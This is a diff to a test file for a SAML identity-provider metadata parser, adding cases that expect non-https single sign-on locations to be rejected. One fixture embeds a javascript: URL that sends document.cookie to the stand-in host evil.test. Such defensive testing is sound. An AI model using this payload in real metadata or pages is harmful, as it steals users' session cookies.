@@ -212,6 +212,22 @@ describe('IdP metadata', () => {
       { idp_entity_id: 'https://idp.acme.com/saml', idp_sso_url: 'https://idp.acme.com/sso/post', idp_certificate: 'MIIBsigningcert==' },
     ],
     ['no signing key', metadata(encryptionKey + redirect), /no signing certificate/],
+    [
+      'a javascript: single sign-on URL',
+      metadata(
+        signingKey +
+          '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="javascript:fetch(\'//evil.test/\'+document.cookie)"/>',
+      ),
+      /Location that is not an https URL/,
+    ],
+    [
+      'a plain http single sign-on URL',
+      metadata(
+        signingKey +
+          '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="http://idp.acme.com/sso"/>',
+      ),
+      /Location that is not an https URL/,
+    ],
     ['no single sign-on service', metadata(signingKey), /no SingleSignOnService/],
     [
       'an SP descriptor instead',
